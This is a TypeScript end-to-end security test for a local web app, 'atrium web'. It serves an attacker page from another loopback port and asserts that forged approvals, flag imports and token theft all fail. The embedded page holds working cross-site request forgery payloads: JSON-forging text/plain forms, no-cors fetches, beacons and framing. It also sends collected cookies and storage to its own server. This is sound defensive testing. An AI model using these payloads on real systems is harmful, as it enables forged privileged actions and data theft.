// Cross-site requests into `atrium web` from another port of 127.0.0.1. A real `atrium web`, connected to a real
// portal with an admin's token (who may approve any request and import flags), is open in one tab from its launch
// URL. In a second tab of the same browser the user visits an attacker's page, served from another loopback port
// (a dev server, a test report, a postinstall script's server). It tries what a page can do without the user's
// help: text/plain, urlencoded and multipart form posts, fetch with credentials, no-cors fetch, a beacon, <img> and
// <script> pointed at the API, framing the app, reading cookies. Afterwards, with the real token: the production
// action still waits for approval, production's flags are intact, and no request the attacker's server received
// carried the token.
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, BrowserContext, Page, Response } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Action, FlagList, TokenCreated } from '../src/api/client';
import { launchBrowser, portalApi, PREVIEW_CONFIG, startAtrium, startPortal, type Atrium, type Portal } from './harness';

const WAIT = { timeout: 20_000, interval: 100 };

interface Received {
  method: string;
  url: string;
  headers: IncomingMessage['headers'];
  body: string;
}

/** The attacker: a server on another loopback port that serves the page and records every request it gets. */
async function startAttacker(page: (self: string) => string): Promise<{ base: string; received: Received[]; done: Promise<string>; close: () => Promise<void> }> {
  const received: Received[] = [];
  let finish: (report: string) => void = () => undefined;
  const done = new Promise<string>((r) => (finish = r));
  let base = '';
  const server: Server = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      const body = Buffer.concat(chunks).toString('utf8');
      received.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers, body });
      if (req.url === '/done') finish(body);
      if (req.url === '/' || req.url?.startsWith('/?')) {
        res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
        res.end(page(base));
        return;
      }
      res.writeHead(204);
      res.end();
    });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return { base, received, done, close: () => new Promise<void>((r) => server.close(() => r())) };
}

/**
 * The attacker's page: every attempt in turn, then a report to its own server. The text/plain forms make valid
 * JSON of the field name and value ({"reason":"=lgtm"}, {"flags":{},"$schema":"="}), as a real attack would.
 */
function attackPage(target: string, actionId: string, self: string): string {
  const approve = `${target}/api/v1/actions/${actionId}/approve`;
  const importProd = `${target}/api/v1/flags/import?environment=production`;
  return `<!doctype html><html><body>
<h1>Totally a test report</h1>
<iframe name="sink1"></iframe><iframe name="sink2"></iframe><iframe name="sink3"></iframe><iframe name="sink4"></iframe>
<form id="f1" method="POST" enctype="text/plain" action="${approve}" target="sink1"><input name='{"reason":"' value='lgtm"}'></form>
<form id="f2" method="POST" enctype="text/plain" action="${importProd}" target="sink2"><input name='{"flags":{},"$schema":"' value='"}'></form>
<form id="f3" method="POST" enctype="application/x-www-form-urlencoded" action="${importProd}" target="sink3"><input name='{"flags":{}}' value=''></form>
<form id="f4" method="POST" enctype="multipart/form-data" action="${approve}" target="sink4"><input name="reason" value="lgtm"></form>
<script>
const log = [];
const note = (what, v) => log.push(what + ': ' + v);
const submitted = (form, frame) => new Promise((resolve) => {
  const f = document.querySelector('iframe[name="' + frame + '"]');
  const t = setTimeout(() => resolve('no load event'), 5000);
  f.addEventListener('load', () => { clearTimeout(t); resolve('loaded'); }, { once: true });
  document.getElementById(form).submit();
});
const attempt = async (what, fn) => { try { note(what, await fn()); } catch (e) { note(what, 'error ' + e); } };
(async () => {
  note('document.cookie', JSON.stringify(document.cookie));
  // Whatever cookies the browser holds for 127.0.0.1 go to this server too: ask for something.
  await fetch('${self}/probe', { credentials: 'include' }).catch(() => {});
  await attempt('text/plain form to approve', () => submitted('f1', 'sink1'));
  await attempt('text/plain form to import', () => submitted('f2', 'sink2'));
  await attempt('urlencoded form to import', () => submitted('f3', 'sink3'));
  await attempt('multipart form to approve', () => submitted('f4', 'sink4'));
  await attempt('no-cors fetch to approve', () => fetch('${approve}', { method: 'POST', mode: 'no-cors', credentials: 'include',
    headers: { 'Content-Type': 'text/plain' }, body: '{"reason":"lgtm"}' }).then((r) => r.type));
  await attempt('no-cors fetch to import', () => fetch('${importProd}', { method: 'POST', mode: 'no-cors', credentials: 'include',
    body: new Blob(['{"flags":{}}'], { type: 'text/plain' }) }).then((r) => r.type));
  await attempt('cors fetch with JSON and credentials', () => fetch('${approve}', { method: 'POST', credentials: 'include',
    headers: { 'Content-Type': 'application/json' }, body: '{}' }).then((r) => r.status));
  await attempt('cors fetch of the flags', () => fetch('${target}/api/v1/flags?environment=production', { credentials: 'include' }).then((r) => r.status));
  await attempt('beacon to approve', () => navigator.sendBeacon('${approve}', '{"reason":"lgtm"}'));
  await attempt('beacon to import', () => navigator.sendBeacon('${importProd}', new Blob(['{"flags":{}}'], { type: 'text/plain' })));
  await attempt('img of the export', () => new Promise((resolve) => {
    const i = new Image(); i.onload = () => resolve('loaded'); i.onerror = () => resolve('error');
    i.src = '${target}/api/v1/flags/export?environment=production';
  }));
  await attempt('script of /me', () => new Promise((resolve) => {
    const s = document.createElement('script'); s.onload = () => resolve('loaded'); s.onerror = () => resolve('error');
    s.src = '${target}/api/v1/me'; document.body.appendChild(s);
  }));
  await attempt('frame the app', () => new Promise((resolve) => {
    const f = document.createElement('iframe');
    const t = setTimeout(() => resolve('no load event'), 5000);
    f.onload = () => { clearTimeout(t); try { resolve('readable: ' + f.contentDocument.body.innerText.slice(0, 50)); } catch (e) { resolve('opaque'); } };
    f.src = '${target}/'; document.body.appendChild(f);
  }));
  await attempt('storage of this origin', () => JSON.stringify({ ...sessionStorage }) + JSON.stringify({ ...localStorage }));
  note('document.cookie after', JSON.stringify(document.cookie));
  await fetch('${self}/done', { method: 'POST', body: log.join('\\n') });
})();
</script></body></html>`;
}

let portal: Portal;
let atrium: Atrium;
let browser: Browser;
let context: BrowserContext;
let app: Page;
let actionId = '';
let flagsBefore: FlagList;

const asAdmin = <T>(method: string, path: string, body?: unknown) => portalApi<T>(portal.base, portal.token, method, path, body);
/** The local API with the real launch token, as the page sends it. */
const asPage = <T>(path: string) => portalApi<T>(atrium.base, atrium.token, 'GET', path);

beforeAll(async () => {
  portal = await startPortal({ config: PREVIEW_CONFIG });
  const dev = await asAdmin<TokenCreated>('POST', '/api/v1/tokens', { name: 'Ana', subject: 'ana', grants: [{ role: 'developer', team: 'payments' }] });
  // Ana requests a production queue; it waits for a platform approver (or an admin).
  const res = await fetch(`${portal.base}/api/v1/actions`, {
    method: 'POST',
    headers: { Authorization: `Bearer ${dev.secret}`, 'Content-Type': 'application/json', 'Idempotency-Key': 'e2e-crossorigin' },
    body: JSON.stringify({ kind: 'sqs_queue', service: 'payments-api', environment: 'production', region: 'eu-west-1', params: { name: 'payments-settlements' } }),
  });
  if (!res.ok) throw new Error(`request the action: ${res.status} ${await res.text()}`);
  const requested = (await res.json()) as Action;
  actionId = requested.id;
  expect(requested.state).toBe('pending_approval');
  // The user at the keyboard is an admin: their atrium web may approve this request and import flags.
  atrium = await startAtrium({ portal: portal.base, token: portal.token });
  flagsBefore = await asAdmin<FlagList>('GET', '/api/v1/flags?environment=production');
  expect(flagsBefore.items.length).toBeGreaterThan(0);
  browser = await launchBrowser();
  // No request interception here (unlike newContext): Chromium's own cookie and CORS handling is what is tested.
  // Every page in this file is on 127.0.0.1.
  context = await browser.newContext();
  app = await context.newPage();
  await app.goto(atrium.url);
});

afterAll(async () => {
  await context?.close();
  await browser?.close();
  await atrium?.stop();
  await portal?.stop();
});

describe('a page on another port of 127.0.0.1', () => {
  it('changes nothing through atrium web and gets no credential', async () => {
    // The app is signed in with the launch token from its URL.
    await expect.poll(() => app.getByTestId('identity').textContent(), WAIT).toContain('admin');
    // The app keeps its token per origin and tab, not in a cookie, and not in the address bar.
    expect(await context.cookies()).toEqual([]);
    expect(app.url()).not.toContain(atrium.token);
    expect(await app.evaluate(() => sessionStorage.getItem('atrium.launchToken'))).toBe(atrium.token);

    const attacker = await startAttacker((self) => attackPage(atrium.base, actionId, self));
    try {
      // What atrium web answered the attacker's page: every answer a refusal.
      const answers: string[] = [];
      const evil = await context.newPage();
      evil.on('response', (r: Response) => {
        if (r.url().startsWith(atrium.base)) answers.push(`${r.request().method()} ${new URL(r.url()).pathname} ${r.status()}`);
      });
      await evil.goto(attacker.base);
      const report = await attacker.done;
      // The user also follows a link from the app to the attacker's site.
      const landing = attacker.received.length;
      await app.evaluate((url) => {
        window.location.href = url;
      }, `${attacker.base}/landing`);
      await expect.poll(() => attacker.received.length > landing, WAIT).toBe(true);

      // The page could read nothing: not the API's answers, not the framed app, not the app's storage.
      expect(report).toContain('cors fetch with JSON and credentials: error TypeError');
      expect(report).toContain('cors fetch of the flags: error TypeError');
      expect(report).not.toContain('readable');
      expect(report).toContain('storage of this origin: {}{}');
      // Its requests reached atrium web, and every one the API answered was refused.
      const fromApi = answers.filter((a) => / \/(api|ofrep)\//.test(a));
      expect(fromApi.filter((a) => a.startsWith('POST')).length, answers.join('\n')).toBeGreaterThanOrEqual(6);
      for (const a of fromApi) expect(a, `${answers.join('\n')}\n${report}`).toMatch(/ (401|403|415)$/);

      // Nothing changed: asked with the real token, through atrium web and at the portal.
      const action = await asPage<Action>(`/api/v1/actions/${actionId}`);
      expect(action.state).toBe('pending_approval');
      expect(action.approvals ?? []).toEqual([]);
      expect((await asAdmin<Action>('GET', `/api/v1/actions/${actionId}`)).state).toBe('pending_approval');
      const flagsAfter = await asPage<FlagList>('/api/v1/flags?environment=production');
      expect(flagsAfter.items.map((f) => [f.key, f.version])).toEqual(flagsBefore.items.map((f) => [f.key, f.version]));

      // No credential reached the attacker's server: not in a cookie, a header (Referer included), a URL or a body.
      expect(attacker.received.length).toBeGreaterThanOrEqual(3);
      for (const r of attacker.received) {
        const seen = JSON.stringify(r);
        expect(seen, `${r.method} ${r.url}`).not.toContain(atrium.token);
        expect(r.headers.cookie ?? '', `${r.method} ${r.url}`).not.toMatch(/atrium/i);
        expect(r.headers.authorization, `${r.method} ${r.url}`).toBeUndefined();
      }
    } finally {
      await attacker.close();
    }
  });

  it('leaves the app working with the header token', async () => {
    await app.goto(`${atrium.base}/#/self-service/${actionId}`);
    await expect.poll(() => app.getByTestId('action-header').locator('[data-state]').textContent(), WAIT).toBe('pending approval');
  });
});
